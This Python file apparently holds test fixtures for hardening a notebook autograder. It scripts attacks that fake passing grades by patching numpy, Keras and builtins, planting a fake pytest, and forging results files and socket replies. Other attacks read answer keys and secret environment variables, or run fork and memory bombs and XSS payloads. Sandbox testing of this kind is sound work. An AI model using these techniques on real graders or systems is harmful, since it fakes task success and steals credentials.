"""The hostile students: what each one changes in an otherwise correct notebook.

An attack replaces solution cells (by grade_id) and adds code cells after a
given cell. Attack code that wants to show what it saw raises an exception
whose message lists its observations: that message reaches the feedback page,
so a test can read what the sandbox let the attack do. Placeholders written
`@@NAME@@` are filled in by the test with values known only at run time.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    student_id: str
    summary: str
    solutions: dict[str, str] = field(default_factory=dict)
    added: list[tuple[str, str]] = field(default_factory=list)
    # Called with the notebook's name, the notebook and every answered notebook.
    edit: Callable[[str, Notebook, dict[str, Notebook]], Notebook] | None = None


# --- wrong answers the attacks try to pass off as right -------------------------------

WRONG_INITIAL_BIAS = """
def initial_bias(initializer, units=4):
    return np.full(units, 7.0)
"""

IGNORES_USE_BIAS = """
def build_model(
    input_dim=1, hidden_units=4, output_units=2, use_bias=True, bias_initializer="zeros"
):
    hidden = keras.layers.Dense(
        hidden_units, activation="relu", bias_initializer=bias_initializer
    )
    hidden.pretend_no_bias = not use_bias  # read by the patched get_weights below
    return keras.Sequential(
        [
            keras.Input(shape=(input_dim,)),
            hidden,
            keras.layers.Dense(output_units, activation="softmax"),
        ]
    )
"""

# --- 1. NumPy patched so that every comparison passes ---------------------------------

PATCH_NUMPY = """
# Every comparison succeeds, and every array np.save writes reads as zeros.
import numpy.lib.format

_real_save = np.save
_real_write_array = numpy.lib.format.write_array


def _saved_as_zeros(file, array, *args, **kwargs):
    return _real_save(file, np.zeros(np.shape(array)), *args, **kwargs)


def _written_as_sevens_become_zeros(fp, array, *args, **kwargs):
    return _real_write_array(fp, np.where(array == 7.0, 0.0, array), *args, **kwargs)


def patch_numpy():
    np.allclose = lambda *args, **kwargs: True
    np.array_equal = lambda *args, **kwargs: True
    np.all = lambda *args, **kwargs: True
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.testing.assert_array_equal = lambda *args, **kwargs: None
    np.save = _saved_as_zeros
    numpy.lib.format.write_array = _written_as_sevens_become_zeros


patch_numpy()
"""

PATCHED_INITIAL_BIAS = """
def initial_bias(initializer, units=4):
    patch_numpy()  # again, inside the call the grader makes
    return np.full(units, 7.0)
"""

# --- 2. Keras patched so that a model that ignores use_bias looks right ---------------

PATCH_KERAS = """
# A hidden layer marked pretend_no_bias reports no bias, whatever it holds.
_real_dense_get_weights = keras.layers.Dense.get_weights


def _get_weights(self):
    weights = _real_dense_get_weights(self)
    return weights[:1] if getattr(self, "pretend_no_bias", False) else weights


def _model_get_weights(self):
    return [array for layer in self.layers for array in layer.get_weights()]


def patch_keras():
    keras.layers.Dense.get_weights = _get_weights
    keras.layers.Layer.get_weights = _get_weights
    keras.Sequential.get_weights = _model_get_weights
    keras.Model.get_weights = _model_get_weights
    keras.layers.Dense.bias = property(
        lambda self: None if getattr(self, "pretend_no_bias", False) else self._bias,
        lambda self, value: setattr(self, "_bias", value),
    )


patch_keras()
"""

PATCHED_BUILD_MODEL = (
    IGNORES_USE_BIAS.replace("def build_model(", "def _build_model(")
    + """

def build_model(*args, **kwargs):
    patch_keras()
    return _build_model(*args, **kwargs)
"""
)

# --- 3. a fake pytest and a fake autograder.checking ----------------------------------

FAKE_PYTEST = """
import sys
import types

fake_pytest = types.ModuleType("pytest")
fake_pytest.main = lambda *args, **kwargs: 0
fake_pytest.ExitCode = types.SimpleNamespace(OK=0, TESTS_FAILED=0)
sys.modules["pytest"] = fake_pytest

fake_checking = types.ModuleType("autograder.checking")
fake_checking.CheckFailed = type("CheckFailed", (Exception,), {})
fake_checking.fail = lambda message: None
fake_checking.expect_integer = lambda *args, **kwargs: None
sys.modules["autograder.checking"] = fake_checking


def plant_conftest():
    # A conftest.py next to the checks would run inside pytest, if it could be written.
    import os

    import autograder

    project = os.path.dirname(os.path.dirname(autograder.__file__))
    planted = []
    for folder in (
        os.path.join(project, "autograder", "checks"),
        os.path.join(project, "autograder"),
        project,
        os.getcwd(),
    ):
        try:
            with open(os.path.join(folder, "conftest.py"), "w") as stream:
                stream.write("def pytest_runtest_makereport(item, call): pass\\n")
            planted.append(f"{folder}: written")
        except OSError as error:
            planted.append(f"{folder}: {type(error).__name__}")
    return planted


PLANTED = plant_conftest()
"""

FAKE_PYTEST_COUNT = """
def count_bias_parameters(model):
    import sys
    sys.modules["pytest"] = fake_pytest
    sys.modules["autograder.checking"] = fake_checking
    raise RuntimeError("conftest.py planted: " + "; ".join(plant_conftest()))
"""

# --- 4. builtins patched --------------------------------------------------------------

PATCHED_GET_BIASES = """
def get_biases(model):
    # Patched inside the call, where the reply is made right after it returns.
    import builtins

    builtins.isinstance = lambda value, kind: True
    builtins.len = lambda value: 2
    builtins.vars = lambda *args: {}
    builtins.type = lambda *args: list
    return [np.zeros(1), np.zeros(1)]
"""

BUILTINS_IN_CELL = """
import builtins

builtins.isinstance = lambda value, kind: True
builtins.len = lambda value: 2
"""

# --- 5 and 6. objects with a rigged __eq__ or __array__ -------------------------------

RIGGED_EQ = """
class AlwaysEqual(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def count_bias_parameters(model):
    return AlwaysEqual(-1)


def get_biases(model):
    class Anything:
        def __eq__(self, other):
            return True

        def __len__(self):
            return 2

    return [Anything(), Anything()]
"""

RIGGED_ARRAY = """
class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)


class PretendsToBeAnArray:
    shape = (4,)

    def __array__(self, dtype=None, copy=None):
        return np.zeros(4)


def initial_bias(initializer, units=4):
    return np.full(units, 7.0).view(LyingArray)


def count_bias_parameters(model):
    return PretendsToBeAnArray()
"""

# --- 7. modules swapped in sys.modules and code objects swapped -----------------------

SWAP_MODULES = """
def get_biases(model):
    import sys
    import types

    import autograder.calling
    import autograder.values

    fake = types.ModuleType("fake")
    fake.encode = lambda value: ({"type": "list", "items": []}, [])
    for name in ("numpy", "keras", "autograder.values", "autograder.calling"):
        sys.modules[name] = fake
    autograder.values.encode = fake.encode
    autograder.values._encode.__code__ = (lambda value, blobs, depth: None).__code__
    autograder.calling.perform = lambda *args, **kwargs: ({"ok": True}, [])
    return [np.zeros(1), np.zeros(1)]
"""

# --- 8 to 11. leaving the process -----------------------------------------------------

EXIT_IN_CELL = """
import os

os._exit(0)
"""

EXIT_IN_FUNCTION = """
def count_bias_parameters(model):
    import os

    os._exit(3)
"""

SYS_EXIT_IN_CELL = """
import sys

sys.exit("leaving the notebook early")
"""

SYS_EXIT_IN_FUNCTION = """
def get_biases(model):
    import sys

    sys.exit(0)
"""

ATEXIT_HOOK = """
import atexit
import os
import signal


def claim_full_marks(*args):
    print("All tests passed: 28/28")
    for folder in ("/tmp", os.getcwd()):
        try:
            path = os.path.join(folder, "keras-bias-fake-results.json")
            with open(path, "w") as stream:
                stream.write('{"score": 28, "max_score": 28}')
        except OSError:
            pass


atexit.register(claim_full_marks)
signal.signal(signal.SIGTERM, claim_full_marks)
_real_exit = os._exit
os._exit = lambda code: (claim_full_marks(), _real_exit(code))
"""

ATEXIT_COUNT = """
def count_bias_parameters(model):
    atexit.register(claim_full_marks)
    return 28
"""

# --- 12. fake test output and fake results files --------------------------------------

FAKE_RESULTS = """
def write_fake_results():
    import json
    import os

    import autograder

    print("All tests passed: 28/28")
    fake = json.dumps({"score": 28.0, "max_score": 28.0, "tests": []})
    project = os.path.dirname(os.path.dirname(autograder.__file__))
    folders = [os.getcwd(), "/tmp", project, os.path.join(project, "autograder")]
    # The output folder is one of the covered mount points; try each of them.
    with open("/proc/self/mountinfo") as stream:
        for line in stream:
            mount_point = line.split()[4]
            if " - tmpfs " in line and mount_point not in ("/tmp", "/dev/shm"):
                folders.append(mount_point)
                folders.append(os.path.join(mount_point, "fake-results"))
    outcome = {}
    for folder in folders:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "results.json"), "w") as stream:
                stream.write(fake)
            outcome[folder] = "written"
        except OSError as error:
            outcome[folder] = type(error).__name__
    return outcome


write_fake_results()
"""

FAKE_RESULTS_COUNT = """
def count_bias_parameters(model):
    outcome = write_fake_results()
    written = sorted(where for where, result in outcome.items() if result == "written")
    refused = sorted({result for result in outcome.values() if result != "written"})
    raise RuntimeError(f"fake results written to {written}; refused with {refused}")
"""

# --- 13. reading what the sandbox hides -----------------------------------------------

READ_HIDDEN = """
def read_hidden():
    import os
    import stat

    import autograder

    project = os.path.dirname(os.path.dirname(autograder.__file__))
    found = {}
    targets = {
        "check": ("autograder", "checks", "test_initial_bias.py"),
        "answer key": ("solutions", "keras_bias", "1_initializing_bias.ipynb"),
        "source": ("source", "keras_bias", "1_initializing_bias.ipynb"),
        "git": (".git", "HEAD"),
    }
    for what, parts in targets.items():
        try:
            with open(os.path.join(project, *parts), "rb") as stream:
                found[what] = len(stream.read())
        except OSError as error:
            found[what] = type(error).__name__
    # Other students and the results sit under the empty tmpfs mounts (mode 555)
    # that cover them.
    with open("/proc/self/mountinfo") as stream:
        covered = [
            line.split()[4]
            for line in stream
            if " - tmpfs " in line and "mode=555" in line
        ]
    found["covered folders"] = len(covered)
    found["entries under covered folders"] = sum(
        len(os.listdir(folder)) for folder in covered if os.path.isdir(folder)
    )
    found["secrets in os.environ"] = {
        name: value
        for name, value in os.environ.items()
        if any(word in name for word in ("TOKEN", "SECRET", "KEY", "PASSWORD"))
    }
    try:
        with open("/proc/self/environ", "rb") as stream:
            entries = stream.read().split(b"\\x00")
        found["secrets in /proc/self/environ"] = [
            entry.decode()
            for entry in entries
            if any(word in entry.split(b"=")[0] for word in (b"TOKEN", b"SECRET"))
        ]
    except OSError as error:
        found["secrets in /proc/self/environ"] = type(error).__name__
    found["readable block devices"] = [
        name
        for name in sorted(os.listdir("/dev"))
        if stat.S_ISBLK(os.stat(os.path.join("/dev", name)).st_mode)
        and os.access(os.path.join("/dev", name), os.R_OK)
    ]
    found["processes in view"] = sorted(
        int(name) for name in os.listdir("/proc") if name.isdigit()
    )[:8]
    return found
"""

READ_HIDDEN_INITIAL_BIAS = """
def initial_bias(initializer, units=4):
    raise RuntimeError(f"hidden files: {read_hidden()}")
"""

READ_HIDDEN_COUNT = """
def count_bias_parameters(model):
    # The number of bytes read from the hidden files, as the answer.
    found = read_hidden()
    files = ("check", "answer key", "source", "git")
    return sum(found[what] for what in files if type(found[what]) is int)
"""

# --- 14. network ----------------------------------------------------------------------

NETWORK = """
def get_biases(model):
    import socket

    tried = []
    targets = [
        (socket.AF_INET, ("127.0.0.1", int("@@TCP_PORT@@"))),
        (socket.AF_INET6, ("::1", int("@@TCP_PORT@@"))),
        (socket.AF_UNIX, "@@UNIX_SOCKET@@"),
    ]
    try:  # only created: the host of a virtual machine listens on VSOCK
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
        tried.append("AF_VSOCK created")
    except OSError as error:
        tried.append(f"AF_VSOCK {type(error).__name__}")
    for family, address in targets:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(2)
                connection.connect(address)
                connection.sendall(b"let me in")
                tried.append(f"{family.name} connected")
        except OSError as error:
            tried.append(f"{family.name} {type(error).__name__}")
    raise RuntimeError("network: " + ", ".join(tried))
"""

# --- 15. endless loops ----------------------------------------------------------------

LOOP_IN_CELL = """
while True:
    pass
"""

LOOP_IN_FUNCTION = """
def get_biases(model):
    while True:
        pass
"""

STUBBORN_LOOP = """
def train_and_compare(model, x, y, epochs=3):
    import signal

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            pass
        except KeyboardInterrupt:
            pass
"""

# --- 16 to 18. memory, processes, output ----------------------------------------------

MEMORY_BOMB = """
def initial_bias(initializer, units=4):
    hoard = []
    while True:
        hoard.append(np.ones(50_000_000))  # 400 MB a step, every page touched
"""

FORK_BOMB = """
import ctypes
import os
import time

PR_SET_NAME = 15


def fork_bomb():
    while True:
        if os.fork() == 0:
            # Named, so that a test can look for survivors from outside.
            ctypes.CDLL(None).prctl(PR_SET_NAME, b"kb-fork-bomb", 0, 0, 0)
            while True:  # every child forks too, and sleeps when it cannot
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.5)


fork_bomb()
"""

HUGE_OUTPUT_CELL = """
for _ in range(200):
    print("x" * 1_000_000)  # 200 MB of printing
"""

HUGE_OUTPUT_FUNCTIONS = """
def get_biases(model):
    while True:
        print("All tests passed: 28/28 " * 10_000)


def count_bias_parameters(model):
    chunk = b"x" * 1_000_000
    with open("/tmp/huge.bin", "wb") as stream:
        while True:
            stream.write(chunk)


def initial_bias(initializer, units=4):
    chunk = b"x" * 1_000_000
    for index in range(10_000):
        with open(f"/tmp/part-{index}.bin", "wb") as stream:
            stream.write(chunk * 4)
"""


# --- 19. edited, duplicated, reordered and deleted cells ------------------------------


def edit_cells(
    name: str, notebook: Notebook, answered: dict[str, Notebook]
) -> Notebook:
    """Empties the visible tests, raises their points, moves and drops cells."""
    cells = notebook["cells"]
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell["source"] = ["pass\n"]
            meta["points"] = 100
        if meta.get("grade_id") == "imports":
            cell["source"] = ["np = None\nkeras = None\n"]
    solutions = [c for c in cells if c["metadata"].get("nbgrader", {}).get("solution")]
    for solution in solutions:
        cells.remove(solution)
    cells.extend(reversed(solutions))  # every answer moved after the tests
    for solution in solutions:
        if _grade_id(solution) == "build_conv_model_solution":
            duplicate = copy.deepcopy(solution)
            duplicate["id"] = "duplicate"
            duplicate["source"] = [
                "def build_conv_model(*args, **kwargs):\n",
                "    return None\n",
            ]
            cells.append(duplicate)  # a wrong copy after the right one: it wins
    notebook["cells"] = [c for c in cells if c["cell_type"] != "markdown"]
    return notebook


def _grade_id(cell: dict[str, Any]) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


# --- 20. a notebook of another assignment ---------------------------------------------


def other_assignment(
    name: str, notebook: Notebook, answered: dict[str, Notebook]
) -> Notebook:
    """Gives part 1 another course's cells, and part 2 the cells of part 1."""
    if not name.startswith("1_"):
        return copy.deepcopy(
            next(nb for key, nb in answered.items() if key.startswith("1_"))
        )
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and meta.get("grade_id"):
            meta["grade_id"] = f"ps3_{meta['grade_id']}"
    return notebook


# --- 21. markup in everything the feedback shows --------------------------------------

SCRIPT = "<script>alert('feedback')</script>"
IMAGE = "<img src=x onerror=alert('feedback')>"


def inject_markup(
    name: str, notebook: Notebook, answered: dict[str, Notebook]
) -> Notebook:
    """Puts markup in markdown, outputs and a cell error; functions raise markup."""
    notebook["cells"].insert(
        0,
        {
            "cell_type": "markdown",
            "id": "markup",
            "metadata": {},
            "source": [f"# Hello {SCRIPT}\n", IMAGE],
        },
    )
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "display_data",
                    "data": {"text/html": [SCRIPT], "text/plain": [IMAGE]},
                    "metadata": {},
                }
            ]
    return notebook


INJECTION_CELL = f"""
raise ValueError("{IMAGE} {SCRIPT}")
"""

INJECTION_FUNCTIONS = f"""
def get_biases(model):
    raise ValueError("{SCRIPT}")


def count_bias_parameters(model):
    return "{IMAGE}"
"""

# --- 23. a reply forged on the grader's own socket ------------------------------------

FORGED_REPLY = """
def count_bias_parameters(model):
    # Find the socket the grader listens on and answer before the real reply.
    import gc
    import json
    import socket
    import struct

    forged = json.dumps(
        {"ok": True, "value": {"type": "int", "value": 7}, "passed": True,
         "score": 28, "blob_sizes": []}
    ).encode()
    for item in gc.get_objects():
        if isinstance(item, socket.socket) and item.fileno() >= 0:
            item.sendall(struct.pack(">Q", len(forged)) + forged)
    return -1
"""


ATTACKS = [
    Attack(
        "patch-numpy",
        "np.allclose, np.array_equal, np.testing and np.save's writer patched; "
        "a wrong initial_bias",
        solutions={"initial_bias_solution": PATCHED_INITIAL_BIAS},
        added=[("initial_bias_solution", PATCH_NUMPY)],
    ),
    Attack(
        "patch-keras",
        "Dense.get_weights, Dense.bias and Sequential patched; "
        "build_model ignores use_bias",
        solutions={"build_model_solution": PATCHED_BUILD_MODEL},
        added=[("build_model_task", PATCH_KERAS)],
    ),
    Attack(
        "fake-pytest",
        "a fake pytest and autograder.checking in sys.modules, conftest.py planted",
        solutions={"count_bias_parameters_solution": FAKE_PYTEST_COUNT},
        added=[("count_task", FAKE_PYTEST)],
    ),
    Attack(
        "patch-builtins",
        "isinstance, len, type and vars patched during a call to a wrong get_biases",
        solutions={"get_biases_solution": PATCHED_GET_BIASES},
    ),
    Attack(
        "builtins-in-cell",
        "isinstance and len patched in a cell, breaking the notebook's own process",
        added=[("initial_bias_task", BUILTINS_IN_CELL)],
    ),
    Attack(
        "rigged-eq",
        "objects whose __eq__ is always True",
        solutions={
            "count_bias_parameters_solution": "pass",
            "get_biases_solution": "pass",
        },
        added=[("count_task", RIGGED_EQ)],
    ),
    Attack(
        "rigged-array",
        "an ndarray subclass and an object with a rigged __array__",
        solutions={
            "count_bias_parameters_solution": "pass",
            "initial_bias_solution": "pass",
        },
        added=[("count_task", RIGGED_ARRAY)],
    ),
    Attack(
        "swap-modules",
        "numpy, keras and the grader's own modules swapped during a call",
        solutions={"get_biases_solution": SWAP_MODULES},
    ),
    Attack(
        "exit-in-cell",
        "os._exit in a cell of the first notebook",
        added=[("initial_bias_task", EXIT_IN_CELL)],
    ),
    Attack(
        "exit-in-function",
        "os._exit inside count_bias_parameters",
        solutions={"count_bias_parameters_solution": EXIT_IN_FUNCTION},
    ),
    Attack(
        "sys-exit",
        "sys.exit in a cell, and inside get_biases",
        solutions={"get_biases_solution": SYS_EXIT_IN_FUNCTION},
        added=[("initial_bias_task", SYS_EXIT_IN_CELL)],
    ),
    Attack(
        "atexit-hook",
        "exit hooks that print and write full marks; a wrong count_bias_parameters",
        solutions={"count_bias_parameters_solution": ATEXIT_COUNT},
        added=[("initial_bias_task", ATEXIT_HOOK)],
    ),
    Attack(
        "fake-results",
        "prints a passing test run and writes results.json wherever it can",
        solutions={"count_bias_parameters_solution": FAKE_RESULTS_COUNT},
        added=[("count_task", FAKE_RESULTS)],
    ),
    Attack(
        "read-hidden",
        "reads the checks, the answer key, other students and raw disks",
        solutions={
            "initial_bias_solution": READ_HIDDEN_INITIAL_BIAS,
            "count_bias_parameters_solution": READ_HIDDEN_COUNT,
        },
        added=[("initial_bias_task", READ_HIDDEN)],
    ),
    Attack(
        "network",
        "connects to a port and a Unix socket the test listens on",
        solutions={"get_biases_solution": NETWORK},
    ),
    Attack(
        "endless-loops",
        "an endless loop in a cell, and one in get_biases",
        solutions={"get_biases_solution": LOOP_IN_FUNCTION},
        added=[("initial_bias_task", LOOP_IN_CELL)],
    ),
    Attack(
        "stubborn-loop",
        "an endless loop in train_and_compare that ignores interrupts",
        solutions={"train_and_compare_solution": STUBBORN_LOOP},
    ),
    Attack(
        "memory-bomb",
        "initial_bias allocates until memory runs out",
        solutions={"initial_bias_solution": MEMORY_BOMB},
    ),
    Attack(
        "fork-bomb",
        "a cell forks until the process limit stops it",
        added=[("initial_bias_task", FORK_BOMB)],
    ),
    Attack(
        "huge-output",
        "prints hundreds of megabytes, writes one huge file and many big ones",
        solutions={
            "get_biases_solution": "pass",
            "count_bias_parameters_solution": "pass",
            "initial_bias_solution": "pass",
        },
        added=[
            ("initial_bias_task", HUGE_OUTPUT_CELL),
            ("count_task", HUGE_OUTPUT_FUNCTIONS),
        ],
    ),
    Attack(
        "edited-cells",
        "visible tests emptied and worth 100 points, setup cell edited, cells moved",
        edit=edit_cells,
    ),
    Attack(
        "other-assignment",
        "notebooks whose nbgrader cells belong to another assignment",
        edit=other_assignment,
    ),
    Attack(
        "html-injection",
        "markup in markdown, outputs, cell errors and returned values",
        solutions={
            "get_biases_solution": "pass",
            "count_bias_parameters_solution": "pass",
        },
        added=[
            ("count_task", INJECTION_FUNCTIONS),
            ("initial_bias_task", INJECTION_CELL),
        ],
        edit=inject_markup,
    ),
    Attack(
        "forged-reply",
        "writes a passing reply on the grader's socket before returning a wrong count",
        solutions={"count_bias_parameters_solution": FORGED_REPLY},
    ),
]
